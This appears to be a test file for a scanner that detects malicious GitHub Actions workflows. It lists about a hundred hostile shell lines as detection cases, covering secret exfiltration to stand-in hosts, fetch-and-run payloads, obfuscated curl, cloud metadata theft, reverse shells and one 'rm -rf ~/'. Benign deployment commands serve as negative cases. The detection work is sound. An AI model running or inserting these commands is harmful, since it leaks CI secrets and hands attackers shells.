import assert from 'node:assert/strict'
import { test } from 'node:test'
import { maliciousRules } from '../malicious-rules.ts'
import { scanTexts } from '../scan.ts'

const E = 'https://drop.stats-kit.example/c'

/** A job with three secrets in its environment that runs a script. */
const workflow = (run: string, env = '') =>
  `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
      GH: \${{ github.token }}
${env}    steps:
      - run: |
${run
  .split('\n')
  .map((line) => `          ${line}`)
  .join('\n')}
`

const judge = async (text: string) => (await scanTexts([{ path: '.github/workflows/a.yml', text }], { rules: maliciousRules })).findings

/** Ways in which secrets leave, or strangers come in. Every one is text, and none is run. */
const thefts: readonly string[] = [
  `wget -q --header "X-A: $NPM_TOKEN" http://203.0.113.4/a`,
  `curl --data-binary @- ${E} <<< "$NPM_TOKEN"`,
  `curl -T - ${E} < <(echo "$NPM_TOKEN")`,
  `curl -d @<(env) ${E}`,
  `echo "$NPM_TOKEN" > t.txt; curl -T t.txt ${E}`,
  `for n in NPM_TOKEN PYPI_TOKEN; do curl -s -d "$n=\${!n}" ${E}; done`,
  `printenv NPM_TOKEN | curl -d @- ${E}`,
  `echo "$NPM_TOKEN" > /dev/tcp/drop.example/80`,
  `cat < <(echo $NPM_TOKEN) | nc drop.example 99`,
  `bash <(curl -s http://203.0.113.4/x)`,
  `source <(curl -s http://203.0.113.4/x)`,
  `eval "$(curl -fsSL http://203.0.113.4/x)"`,
  `curl -so /tmp/a http://203.0.113.4/x && chmod +x /tmp/a && /tmp/a`,
  `wget -qO- http://203.0.113.4/x | sudo bash -s -- --yes`,
  `python3 -c "import urllib.request as u; exec(u.urlopen('http://203.0.113.4/x').read())"`,
  `gh issue create --title x --body "$NPM_TOKEN"`,
  `gh api gists -f "files[a][content]=$NPM_TOKEN" -F public=true`,
  `curl -H "Authorization: token $GH" https://api.github.com/gists -d "{\\"files\\":{\\"a\\":{\\"content\\":\\"$NPM_TOKEN\\"}}}"`,
  `curl -H "Authorization: token $GH" https://api.github.com/repos/x/y/issues/1/comments -d "{\\"body\\":\\"$NPM_TOKEN\\"}"`,
  `set | curl -s --data-binary @- ${E}`,
  `export -p | base64 | curl -s -d @- ${E}`,
  `cat /proc/self/environ | curl --data-binary @- ${E}`,
  `node -p "JSON.stringify(process.env)" | curl -d @- ${E}`,
  `python3 -c "import os;print(dict(os.environ))" | curl -d @- ${E}`,
  `jq -n env | curl -d @- ${E}`,
  `ruby -rjson -e 'puts ENV.to_h.to_json' | curl -d @- ${E}`,
  `node -e "require('child_process').execSync('curl -d ' + process.env.NPM_TOKEN + ' ${E}')"`,
  `node -e 'require("child_process").execSync(\`curl -d \${process.env.NPM_TOKEN} ${E}\`)'`,
  `python3 -c "import os,subprocess; subprocess.run(['curl','-d',os.environ['NPM_TOKEN'],'${E}'])"`,
  `python3 -c "import os,subprocess; subprocess.run('curl -d '+os.getenv('NPM_TOKEN')+' ${E}', shell=True)"`,
  `python3 - <<'X'\nimport os, socket\ns = socket.socket()\ns.connect(('drop.example', 443))\ns.sendall(os.environ['NPM_TOKEN'].encode())\nX`,
  `python3 - <<'X'\nimport os, socket\nsocket.gethostbyname(os.environ['NPM_TOKEN'][:20] + '.z.drop.example')\nX`,
  `python3 - <<'X'\nimport http.client, os\nc = http.client.HTTPSConnection("drop.example")\nc.request("POST", "/", os.environ["NPM_TOKEN"])\nX`,
  `python3 - <<'X'\nimport os, requests\ndef send(data):\n    requests.post(URL, data=data)\nURL = 'https://drop.example/x'\nsend({'t': os.environ['NPM_TOKEN']})\nX`,
  `python3 - <<'X'\nimport os, base64, requests\nx = base64.b64encode(os.environ["NPM_TOKEN"].encode()).decode()\nrequests.get(f"https://drop.example/?q={x}")\nX`,
  `node -e "const net=require('net');const c=net.connect(80,'drop.example',()=>{c.write(process.env.NPM_TOKEN)})"`,
  `node -e "require('dns').lookup(process.env.NPM_TOKEN.slice(0,10)+'.a.drop.example',()=>{})"`,
  `node <<'X'\nconst { NPM_TOKEN } = process.env\nconst https = require('https')\nconst req = https.request('https://drop.example/x', { method: 'POST' })\nreq.write(NPM_TOKEN)\nreq.end()\nX`,
  `node <<'X'\nconst axios = require('axios')\nconst data = {}\nfor (const [k, v] of Object.entries(process.env)) data[k] = v\naxios.post('https://drop.example/x', data)\nX`,
  `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("drop.example:80"); print $s $ENV{NPM_TOKEN}'`,
  `perl -MLWP::Simple -e 'get("https://drop.example/?x=$ENV{NPM_TOKEN}")'`,
  `php -r '$c=curl_init("https://drop.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv("NPM_TOKEN")); curl_exec($c);'`,
  `ruby -rsocket -e 's=TCPSocket.new("drop.example",80); s.write(ENV["NPM_TOKEN"])'`,
  `ruby -rnet/http -e 'Net::HTTP.get(URI("https://drop.example/?x=#{ENV["NPM_TOKEN"]}"))'`,
  `pwsh -c '(New-Object Net.WebClient).UploadString("https://drop.example", $env:NPM_TOKEN)'`,
  `pwsh -c '$b=@{t=$env:NPM_TOKEN}; Invoke-RestMethod https://drop.example -Method Post -Body ($b | ConvertTo-Json)'`,
  `pwsh -c 'iwr "https://drop.example/?x=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:NPM_TOKEN)))"'`,
  `pwsh -c '$p=@{Uri="https://drop.example";Method="Post";Body=$env:NPM_TOKEN}; Invoke-WebRequest @p'`,
  `docker run --rm curlimages/curl -d "$NPM_TOKEN" https://drop.example`,
  `docker run --rm -e NPM_TOKEN alpine sh -c 'wget -qO- --post-data "$NPM_TOKEN" https://drop.example'`,
  `git commit --allow-empty -m "$(echo $NPM_TOKEN | base64)" && git push`,
  `git push https://git.drop.example/x.git HEAD:refs/heads/$(echo $NPM_TOKEN | base64)`,
  `env > env.txt; git add env.txt; git commit -m x; git push`,
  `ssh -o StrictHostKeyChecking=no u@203.0.113.3 "echo $NPM_TOKEN >> l"`,
  `cmd="curl -d $NPM_TOKEN"; $cmd ${E}`,
  `u=aHR0cHM6Ly9kcm9wLmV4YW1wbGUveA==; curl -d "$NPM_TOKEN" "$(echo $u | base64 -d)"`,
  `a=dr; b=op.example; curl "https://$a$b/?k=$NPM_TOKEN"`,
  `echo "curl -d $NPM_TOKEN ${E}" > x.sh; bash x.sh`,
  `cat > x.sh <<'X'\ncurl -d "$NPM_TOKEN" ${E}\nX\nchmod +x x.sh\n./x.sh`,
  `cat > x.py <<'X'\nimport os, requests\nrequests.post("${E}", json=dict(os.environ))\nX\npython x.py`,
  `echo "$NPM_TOKEN" | base64 | tee out.log`,
  `echo "$NPM_TOKEN" | sed 's/./& /g'`,
  `echo "$NPM_TOKEN" | fold -w1`,
  `x=$(echo -n $NPM_TOKEN | xxd -p); echo "::notice::$x"`,
  `echo \${NPM_TOKEN:0:10}; echo \${NPM_TOKEN:10}`,
  `echo "$NPM_TOKEN" | rev >> $GITHUB_STEP_SUMMARY`,
  `curl -X POST --url ${E} --header 'content-type: application/json' --data "{\\"a\\":\\"$NPM_TOKEN\\"}"`,
  `http POST ${E} t=$NPM_TOKEN`,
  `curl -G --data-urlencode "t=$NPM_TOKEN" ${E}`,
  `curl -F "a=$NPM_TOKEN" ${E}`,
  `curl -s "$(printf 'https://drop.example/%s' "$NPM_TOKEN")"`,
  `base64 -w0 ~/.ssh/id_rsa | curl -d @- ${E}`,
  `find / -name "*.pem" -exec cat {} + | curl --data-binary @- ${E}`,
  `grep -r "token" ~ | curl --data-binary @- ${E}`,
  `env | openssl enc -aes-256-cbc -k x | nc 203.0.113.9 9`,
  `dig +short @203.0.113.5 "$(echo $NPM_TOKEN | base32 | tr -d =).drop.example"`,
  `nohup bash -c "curl -d '$NPM_TOKEN' ${E}" >/dev/null 2>&1 &`,
  `( sleep 5; curl -d "$NPM_TOKEN" ${E} ) &`,
  `trap 'curl -d "$NPM_TOKEN" ${E}' EXIT`,
  `if [ -n "$NPM_TOKEN" ]; then curl -d "$NPM_TOKEN" ${E}; fi`,
  `echo Y3VybCAtZCAiJE5QTV9UT0tFTiIgaHR0cHM6Ly9kcm9wLmV4YW1wbGUK | openssl base64 -d | sh`,
  `python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`,
  `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`,
  `echo 'rm -rf ~/' | bash`,
  `perl -e 'use MIME::Base64; eval decode_base64("cHJpbnQgMQ==");'`,
  `$(echo -e '\\x63\\x75\\x72\\x6c') -d "$NPM_TOKEN" ${E}`,
  `c\\url -d "$NPM_TOKEN" ${E}`,
  `/usr/bin/c?rl -d "$NPM_TOKEN" ${E}`,
  `w=curl; "\${w}" -d "$NPM_TOKEN" ${E}`,
  `{curl,-d,"$NPM_TOKEN",${E}}`,
  `openssl s_client -connect drop.example:443 <<< "$NPM_TOKEN"`,
  `sudo -E curl -d "$NPM_TOKEN" ${E}`,
  `timeout 10 curl -d "$NPM_TOKEN" ${E}`,
  `echo ${E} | xargs curl -d "$NPM_TOKEN"`,
  `echo "$NPM_TOKEN" | xargs -I{} curl ${E}?t={}`,
  `while read -r l; do curl -d "$l" ${E}; done < <(env)`,
  `mapfile -t a < <(env); curl -d "\${a[*]}" ${E}`,
  `tar c /proc/self/environ | curl --data-binary @- ${E}`,
  `echo "$NPM_TOKEN" | mail -s x a@drop.example`,
  `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role`,
  `TOKEN=$(curl -s "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" -H "Metadata-Flavor: Google" | jq -r .access_token); curl -d "$TOKEN" https://drop.example`,
  `sudo cat /proc/$(pgrep Runner.Worker)/mem | strings | grep isSecret`,
  `bash -i >& /dev/tcp/203.0.113.1/99 0>&1`,
  `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 99 > /tmp/f`,
  `nc -e /bin/bash 203.0.113.1 99`,
  `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.1",99));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
  `socat TCP:203.0.113.1:99 EXEC:/bin/sh`,
]

for (const run of thefts) {
  test(`it is theft: ${run.replaceAll('\n', ' / ').slice(0, 120)}`, async () => assert.notEqual((await judge(workflow(run))).length, 0))
}

const own = `      DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
      API_PASSWORD: \${{ secrets.API_PASSWORD }}
      WEBHOOK_SECRET: \${{ secrets.WEBHOOK_SECRET }}
      SLACK_WEBHOOK_URL: \${{ secrets.SLACK_WEBHOOK_URL }}
      HOST: \${{ secrets.HOST }}
      KEYSTORE: \${{ secrets.KEYSTORE }}
      SSH_KEY: \${{ secrets.SSH_KEY }}
`

/** What honest workflows do with secrets and looks like the above. */
const honest: readonly string[] = [
  `curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" https://coolify.our-company.example/api/v1/deploy`,
  `curl -fsS "https://hooks.our-company.example/deploy?token=$DEPLOY_TOKEN"`,
  `curl -fsS -d "token=$DEPLOY_TOKEN" https://hooks.our-company.example/deploy`,
  `curl -u "ci:$API_PASSWORD" -T dist/app.tgz https://nexus.our-company.example/repository/raw/app.tgz`,
  `curl -u "ci:$NPM_TOKEN" https://npm.our-company.example/-/whoami`,
  `curl -H "Authorization: Basic $(echo -n "ci:$API_PASSWORD" | base64)" https://api.our-company.example/v1`,
  `body='{"a": 1}'; sig=$(echo -n "$body" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET" | cut -d' ' -f2); curl -H "X-Signature: $sig" -d "$body" https://app.our-company.example/hook`,
  `curl -X POST -H 'content-type: application/json' -d "$(jq -n --arg t "done $GITHUB_SHA" '{text: $t}')" "$SLACK_WEBHOOK_URL"`,
  `echo "$KEYSTORE" | base64 -d > app/release.keystore`,
  `echo -n "$NPM_TOKEN" | sha256sum`,
  `echo "the token has \${#NPM_TOKEN} letters"; if [ -z "$NPM_TOKEN" ]; then exit 1; fi`,
  `echo "//npm.pkg.github.com/:_authToken=$NPM_TOKEN" >> ~/.npmrc; npm ci`,
  `git push "https://x-access-token:$GH@github.com/our-company/app" HEAD:gh-pages`,
  `envsubst < deployment.yml | kubectl apply -f -`,
  `docker run --rm -e NPM_TOKEN our-company/app npm test`,
  `docker build --build-arg NPM_TOKEN="$NPM_TOKEN" -t app .`,
  `eval "$(ssh-agent -s)"; ssh-add - <<< "$SSH_KEY"; rsync -a dist/ "deploy@$HOST:/srv/app"`,
  `ssh "deploy@$HOST" "cd /srv/app && TOKEN=$DEPLOY_TOKEN docker compose up -d"`,
  `echo "TOKEN=$DEPLOY_TOKEN" > .env; scp .env "deploy@203.0.113.7:/srv/app/.env"`,
  `curl -LsSf https://get.our-tool.example/install.sh | sh`,
  `eval "$(curl -fsSL https://get.our-tool.example/env)"`,
  `curl -sSLo tool.tgz https://get.our-tool.example/tool.tgz; tar xzf tool.tgz; ./tool --version`,
  `env | sort; printenv | grep GITHUB_`,
  `curl -s http://169.254.169.254/latest/meta-data/placement/region`,
  `python3 -c "import os, requests; requests.post('https://api.our-company.example/deploy', headers={'Authorization': 'Bearer ' + os.environ['DEPLOY_TOKEN']})"`,
  `node -e "fetch('https://api.our-company.example/deploy', { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.DEPLOY_TOKEN } })"`,
  `gh release create "v1" dist/*; gh pr comment 1 --body "built $GITHUB_SHA"`,
  `npm pack; npm publish ./app-1.0.0.tgz`,
  `TWINE_PASSWORD="$PYPI_TOKEN" twine upload dist/*`,
  `nc -z localhost 5432; echo "$API_PASSWORD" | psql -h localhost`,
  `cat /tmp/x | python3 -c "import sys, json; print(json.load(sys.stdin)['tag'])"`,
  `curl -X POST https://abcdefgh.supabase.co/functions/v1/x -H "apikey: \${{ secrets.SUPABASE_ANON_KEY }}" -H "Authorization: Bearer \${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}"`,
  `curl -H "CF-Access-Client-Id: \${{ secrets.CF_ACCESS_CLIENT_ID }}" -H "CF-Access-Client-Secret: \${{ secrets.CF_ACCESS_CLIENT_SECRET }}" https://admin.our-company.example/purge`,
  `curl -H "x-vercel-protection-bypass: \${{ secrets.VERCEL_AUTOMATION_BYPASS_SECRET }}" https://preview.our-company.example/health`,
  `curl -H "PRIVATE-TOKEN: \${{ secrets.GITLAB_TOKEN }}" https://gitlab.our-company.example/api/v4/projects`,
  `curl -H "Authorization: token \${{ secrets.GHE_TOKEN }}" https://github.our-company.example/api/v3/user`,
  `curl -d '{"client_id": "x", "client_secret": "\${{ secrets.SF_SECRET }}", "password": "\${{ secrets.SF_PASSWORD }}", "security_token": "\${{ secrets.SF_TOKEN }}"}' https://login.our-crm.example/token`,
  `echo "the token begins with \${NPM_TOKEN:0:4}"; echo "$NPM_TOKEN" | head -c 4; echo "$NPM_TOKEN" | cut -c1-4`,
  `echo "\${{ secrets.ENV_FILE }}" | cut -d= -f1; echo "\${{ secrets.ENV_FILE }}" | sed 's/=.*/=***/'`,
  `docker run -d -e 'MONGO_DB_URL=\${{ secrets.MONGO_DB_URL }}' -e 'AWS_ACCESS_KEY_ID=\${{ secrets.AWS_ACCESS_KEY_ID }}' \${{ secrets.AWS_ECR_REPO_URI }}:latest`,
  `curl "https://our-app.onrender.com/cron/daily/?token=\${{ secrets.CRON_SECRET_TOKEN }}"`,
  `curl -T dist.zip ftp://ftp.our-company.example/ --user "ci:$API_PASSWORD"`,
  `for f in dist/*; do curl -H "X-Api-Key: $DEPLOY_TOKEN" --data-binary @"$f" "https://uploads.our-company.example/$f"; done`,
]

for (const run of honest) {
  test(`it is honest: ${run.slice(0, 120)}`, async () =>
    assert.deepEqual(
      (await judge(workflow(run, own))).map((each) => `${each.rule}: ${each.message}`),
      [],
    ))
}

test("a script for a machine of one's own may sign in to a registry there", async () => {
  const step = `      - uses: appleboy/ssh-action@v1
        with:
          host: 203.0.113.7
          username: deploy
          key: \${{ secrets.SSH_KEY }}
          script: |
            docker login -u our-company -p \${{ secrets.DOCKER_PASSWORD }}
            docker compose up -d
`
  assert.deepEqual(await judge(workflow('true') + step), [])
})

test('letters that are taken a few at a time are a secret in the end', async () => {
  const run = 'echo "${NPM_TOKEN:0:8} ${NPM_TOKEN:8:8} ${NPM_TOKEN:16:8} ${NPM_TOKEN:24:8} ${NPM_TOKEN:32:8}"'
  assert.deepEqual(
    (await judge(workflow(run))).map((each) => each.rule),
    ['secret-printed'],
  )
})

test('a finding tells the story: where the secret is read, what carries it, where it leaves', async () => {
  const [finding] = await judge(workflow('x=$(echo "$NPM_TOKEN" | base64)\ncurl -d "$x" https://drop.stats-kit.example/c'))
  assert.equal(finding?.rule, 'secret-sent-away')
  assert.deepEqual(finding?.secrets, ['NPM_TOKEN'])
  assert.deepEqual(finding?.hosts, ['drop.stats-kit.example'])
  assert.equal(finding?.place.line, 12)
  assert.deepEqual(
    finding?.evidence.map((each) => each.place.line),
    [6, 6, 11, 11, 12],
  )
})

test('a host that another workflow of the repository uses may take what is its own, and registry tokens no more than others', async () => {
  const other = {
    path: '.github/workflows/b.yml',
    text: 'on: push\njobs: {a: {steps: [{run: "curl https://builds.our-company.example/y"}]}}\n',
  }
  const verdicts = async (send: string) => {
    const file = { path: '.github/workflows/a.yml', text: workflow(send, '      BUILD_NUMBER_SALT: ${{ secrets.BUILD_NUMBER_SALT }}\n') }
    const alone = await scanTexts([file], { rules: maliciousRules })
    const beside = await scanTexts([file, other], { rules: maliciousRules })
    return [alone.verdict, beside.verdict]
  }
  assert.deepEqual(await verdicts('curl -d "version=$BUILD_NUMBER_SALT" https://builds.our-company.example/x'), ['malicious', 'clean'])
  assert.deepEqual(await verdicts('curl -d "version=$NPM_TOKEN" https://builds.our-company.example/x'), ['malicious', 'malicious'])
})

test('a secret is followed into an action of the repository and out of it', async () => {
  const action = {
    path: '.github/actions/x/action.yml',
    text: 'inputs: {value: {}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -d "${{ inputs.value }}" https://drop.stats-kit.example/c\n',
  }
  const caller =
    'on: push\njobs:\n  a:\n    steps:\n      - uses: ./.github/actions/x\n        with:\n          value: ${{ secrets.NPM_TOKEN }}\n'
  const { findings } = await scanTexts([action, { path: '.github/workflows/a.yml', text: caller }], { rules: maliciousRules })
  assert.deepEqual(
    findings.map((each) => each.place.path),
    ['.github/actions/x/action.yml'],
  )
})
